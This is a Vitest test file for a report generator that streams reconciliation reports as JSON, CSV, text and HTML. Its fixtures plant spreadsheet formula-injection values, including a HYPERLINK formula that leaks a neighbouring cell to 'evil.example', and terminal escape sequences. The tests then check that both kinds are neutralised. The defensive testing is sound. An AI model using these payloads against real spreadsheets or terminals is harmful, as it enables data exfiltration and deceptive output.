import fs from 'node:fs/promises';
import path from 'node:path';
import { Writable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { contributionSlips } from '../../pipelines/contributionSlips.js';
import { CHUNK_BYTES, collectChunks, writeChunks } from '../../src/reconcile/chunks.js';
import { buildReport, readReportHead } from '../../src/reconcile/report.js';
import { readReportLists } from '../../src/reconcile/runLists.js';
import { reportToCsv } from '../../src/reconcile/reportCsv.js';
import { reportPage } from '../../src/reconcile/reportPage.js';
import { reportChunks } from '../../src/reconcile/reportStream.js';
import { reportToText } from '../../src/reconcile/reportText.js';
import { maillon } from '../helpers/cli.js';
import { createFlowFixture, type FlowFixture } from '../helpers/flowFixture.js';

const NOW = new Date('2025-01-10T12:00:00Z');
const LARGE = 200_000;
// Dossier keys a spreadsheet would run as formulas (the first one calls out with the cell beside it).
// A dossier key that would clear the screen and turn it red (ESC, then the C1 CSI).
const TERMINAL_KEY = 'D\u001b[2J\u009b31m';
const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"D08")', '+1', '@SUM(A1)', '\tTAB', '\rCR', '\uff1d1', '\uff0d1'];

/** A slow reader that records each write's size and the most it was ever left holding. */
function slowSink(): { sink: Writable; chunks: number[]; maxBuffered: () => number; text: () => string } {
  const chunks: number[] = [];
  const parts: string[] = [];
  let maxBuffered = 0;
  const sink = new Writable({
    highWaterMark: 16 * 1024,
    decodeStrings: false,
    write(chunk: string, _enc, done) {
      chunks.push(chunk.length);
      parts.push(chunk);
      maxBuffered = Math.max(maxBuffered, sink.writableLength);
      setImmediate(done);
    },
  });
  return { sink, chunks, maxBuffered: () => maxBuffered, text: () => parts.join('') };
}

describe('reports stream to their output', () => {
  let fx: FlowFixture;
  let runId: number;
  beforeAll(async () => {
    fx = await createFlowFixture();
    runId = (await fx.run(contributionSlips, '2024-Q1')).runId;
    // Records the receivers did not simply accept, with codes a reply can carry: every record of a
    // file its ACRF rejected, and two records of another file that blocking anomalies name.
    const files = (await fx.db.pool.query<{ file_id: string; file_key: string }>(`SELECT file_id, file_key FROM maillon.files WHERE run_id = $1 ORDER BY name`, [runId])).rows;
    expect(files.length).toBeGreaterThan(1);
    await fx.db.pool.query(`UPDATE maillon.files SET ack_state = 'rejected', ack_errors = $2 WHERE file_id = $1`, [files[0]!.file_id, ['E"1', 'x,y', 'line\nbreak']]);
    const reply = await fx.db.pool.query<{ id: string }>(
      `INSERT INTO maillon.replies (server, name, received_at, state, kind, file_name) VALUES ('s', 'FO.NOTI.1', now(), 'processed', 'NOTI', 'FO.NOTI.1') RETURNING reply_id AS id`,
    );
    await fx.db.pool.query(
      `INSERT INTO maillon.record_anomalies (reply_id, file_id, run_id, ordinal, blocking, code)
       SELECT $1, $2, o.run_id, o.ordinal, true, c
       FROM (SELECT run_id, ordinal FROM maillon.record_outcomes WHERE run_id = $3 AND file_key = $4 AND outcome = 'emitted' ORDER BY ordinal LIMIT 2) o, unnest($5::text[]) c`,
      [reply.rows[0]!.id, files[1]!.file_id, runId, files[1]!.file_key, ['é🙂', '\\', 'a;b']],
    );
    // Text from the dossier and from a reply that a spreadsheet would take for formulas: quarantined
    // keys, the key of a record of the rejected file, the name of a reply set aside.
    await fx.db.pool.query(
      `INSERT INTO maillon.record_outcomes (run_id, ordinal, source_key, outcome, rule, message)
       SELECT $1, 900000 + k.n, k.key, 'quarantined', 'no-insurer', 'no insurer on the day' FROM unnest($2::text[]) WITH ORDINALITY k (key, n)`,
      [runId, FORMULAS],
    );
    await fx.db.pool.query(`UPDATE maillon.runs SET extracted = extracted + $2, quarantined = quarantined + $2 WHERE run_id = $1`, [runId, FORMULAS.length]);
    await fx.db.pool.query(
      `UPDATE maillon.record_outcomes SET source_key = '-2+3'
       WHERE (run_id, ordinal) = (SELECT run_id, ordinal FROM maillon.record_outcomes WHERE run_id = $1 AND file_key = $2 AND outcome = 'emitted' ORDER BY ordinal LIMIT 1)`,
      [runId, files[0]!.file_key],
    );
    // A key, a reply's code and a user name that would drive a terminal (ESC, a C1 CSI, BEL).
    await fx.db.pool.query(
      `UPDATE maillon.record_outcomes SET source_key = $3
       WHERE (run_id, ordinal) = (SELECT run_id, ordinal FROM maillon.record_outcomes WHERE run_id = $1 AND file_key = $2 AND outcome = 'emitted' ORDER BY ordinal LIMIT 1)`,
      [runId, files[1]!.file_key, TERMINAL_KEY],
    );
    await fx.db.pool.query(`UPDATE maillon.files SET ack_errors = ack_errors || $2::text[] WHERE file_id = $1`, [files[0]!.file_id, ['\u001b]0;owned\u0007']]);
    await fx.db.pool.query(`UPDATE maillon.runs SET started_by = 'ops\u001b[8m' WHERE run_id = $1`, [runId]);
    await fx.db.pool.query(`INSERT INTO maillon.replies (server, name, received_at, state, reason, file_name) VALUES ('s', '@SUM(1+1)', now(), 'set_aside', 'not a reply', $1)`, [
      (await fx.db.pool.query<{ name: string }>(`SELECT name FROM maillon.files WHERE file_id = $1`, [files[0]!.file_id])).rows[0]!.name,
    ]);
  });
  afterAll(async () => fx.close());

  const streamed = async (format: string): Promise<string> => {
    const head = await readReportHead(fx.db.pool, contributionSlips, '2024-Q1', 'T', NOW);
    const out = slowSink();
    await writeChunks(reportChunks(format, head, readReportLists(fx.db.pool, head.runId)), out.sink);
    return out.text();
  };

  it('writes the same JSON text and CSV as the report built in memory', async () => {
    const report = await buildReport(fx.db.pool, contributionSlips, '2024-Q1', 'T', NOW);
    expect(report.quarantine.length).toBeGreaterThan(0);
    expect(report.delivery.recordIssues.length).toBeGreaterThan(2);
    expect(report.delivery.recordIssues.some((i) => i.codes.includes('é🙂') && i.codes.includes('\\'))).toBe(true);
    expect(await streamed('json')).toBe(`${JSON.stringify(report, null, 2)}\n`);
    expect(await streamed('csv')).toBe(await reportToCsv(report));
  });

  it('writes the long lists of a report read from the ledger as PostgreSQL writes them, without making objects of them', async () => {
    const report = await buildReport(fx.db.pool, contributionSlips, '2024-Q1', 'T', NOW);
    const head = await readReportHead(fx.db.pool, contributionSlips, '2024-Q1', 'T', NOW);
    const refused: AsyncIterable<never> = {
      [Symbol.asyncIterator]: () => {
        throw new Error('the items were read');
      },
    };
    const lists = { ...readReportLists(fx.db.pool, head.runId), quarantine: refused, recordIssues: refused };
    expect(await collectChunks(reportChunks('json', head, lists))).toBe(`${JSON.stringify(report, null, 2)}\n`);
    expect(await collectChunks(reportChunks('csv', head, lists))).toBe(await reportToCsv(report));
  });

  it('hands a spreadsheet no formula from the dossier or a reply: a single quote before it; numbers stay numbers', async () => {
    const report = await buildReport(fx.db.pool, contributionSlips, '2024-Q1', 'T', NOW);
    const csv = await reportToCsv({ ...report, facts: { unallocatedCents: -1250, note: '-x' } });
    const rows = parse(csv, { relax_column_count: true });
    const startsFormula = (c: string): boolean => /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/.test(c);
    // Only negative numbers start so: a number cell, which a spreadsheet reads as a number.
    expect(rows.flat().filter((c) => startsFormula(c) && !/^-\d+$/.test(c))).toEqual([]);
    expect(rows.filter((r) => r[0] === 'quarantine' && startsFormula(r[1]!.slice(1))).map((r) => r[1])).toEqual(FORMULAS.map((k) => `'${k}`).sort());
    expect(rows.find((r) => r[0] === 'record' && r[1] === "'-2+3")).toBeDefined();
    expect(rows.find((r) => r[0] === 'reply')?.slice(0, 3)).toEqual(['reply', "'@SUM(1+1)", 'set_aside']);
    expect(report.daysRemaining).toBeLessThan(0);
    expect(csv).toContain(`\ndeadline,${report.deadline},${report.daysRemaining},days remaining\n`);
    expect(csv).toContain("\nfact,unallocatedCents,-1250,\nfact,note,'-x,\n");
    expect(await streamed('csv')).toBe(await reportToCsv(report));
  });

  it('prints no control character of a dossier key, a reply code or a user name in the text report', async () => {
    const text = await reportToText(await buildReport(fx.db.pool, contributionSlips, '2024-Q1', 'T', NOW));
    expect(await streamed('text')).toBe(text);
    // eslint-disable-next-line no-control-regex -- control characters are what is looked for
    expect(text.replaceAll('\n', '').match(/[\u0000-\u001f\u007f-\u009f\u2028\u2029]/g)).toBeNull();
    expect(text).toMatch(/^ {4}rejected +-2\+3 E"1,x,y,line\\x0abreak,\\x1b\]0;owned\\x07$/m);
    expect(text).toMatch(/^ {4}rejected +D\\x1b\[2J\\x9b31m \\,a;b,é🙂$/m);
    expect(text).toContain(' by ops\\x1b[8m at ');
  });

  it('the command prints the JSON report and writes the CSV to a 0600 file', async () => {
    const env = { DATABASE_URL: fx.db.url, MAILLON_HOME: path.dirname(fx.outbox), MAILLON_OUTBOX: fx.outbox, MAILLON_SENDER: '012345', MAILLON_ENV: 'T', MAILLON_NOW: NOW.toISOString() };
    const json = await maillon(['report', 'contribution-slips', '--period', '2024-Q1', '--json'], env);
    expect(json.code).toBe(0);
    expect(JSON.parse(json.stdout)).toEqual(JSON.parse(JSON.stringify(await buildReport(fx.db.pool, contributionSlips, '2024-Q1', 'T', NOW, 48))));
    const file = path.join(path.dirname(fx.outbox), 'report.csv');
    const csv = await maillon(['report', 'contribution-slips', '--period', '2024-Q1', '--format', 'csv', '--out', file], env);
    expect(csv.code).toBe(0);
    expect((await fs.stat(file)).mode & 0o777).toBe(0o600);
    expect(await fs.readFile(file, 'utf8')).toContain('quarantine,D05,no-insurer,');
  });

  it(`streams a quarantine of ${LARGE} records in bounded chunks; the page shows the first ones and says the CSV has them all`, async () => {
    await fx.db.pool.query(
      `INSERT INTO maillon.record_outcomes (run_id, ordinal, source_key, outcome, rule, message)
       SELECT $1, 1000000 + g, 'Z' || lpad(g::text, 7, '0'), 'quarantined', 'record-shape', 'a row that does not have the expected shape'
       FROM generate_series(1, $2::int) g`,
      [runId, LARGE],
    );
    const head = await readReportHead(fx.db.pool, contributionSlips, '2024-Q1', 'T', NOW);
    expect(head.quarantineByRule['record-shape']).toBe(LARGE);
    for (const format of ['csv', 'json']) {
      const out = slowSink();
      await writeChunks(reportChunks(format, head, readReportLists(fx.db.pool, head.runId)), out.sink);
      const text = out.text();
      expect(text.length).toBeGreaterThan(10_000_000);
      // One write per chunk of about CHUNK_BYTES, never the whole report at once, and the writer waited for the reader.
      expect(out.chunks.length).toBeGreaterThan(text.length / (4 * CHUNK_BYTES));
      expect(Math.max(...out.chunks)).toBeLessThan(4 * CHUNK_BYTES);
      expect(out.maxBuffered()).toBeLessThan(8 * CHUNK_BYTES);
      if (format === 'csv') expect(parse(text).filter((r) => r[0] === 'quarantine' && r[2] === 'record-shape')).toHaveLength(LARGE);
      else expect((JSON.parse(text) as { quarantine: unknown[] }).quarantine.length).toBeGreaterThanOrEqual(LARGE);
    }
    const page = await reportPage(fx.db.pool, contributionSlips, '2024-Q1', 'T', NOW, 48, 100);
    expect(page.length).toBeLessThan(200_000);
    const rows = /<table id="quarantine">([\s\S]*?)<\/table>/.exec(page)![1]!.match(/<tr>/g)!;
    expect(rows).toHaveLength(101); // the header and the first 100
    const quarantined = Object.values(head.quarantineByRule).reduce((a, b) => a + b, 0);
    expect(quarantined).toBeGreaterThan(LARGE);
    expect(page).toContain(`The first 100 of ${quarantined} are shown`);
  });
});
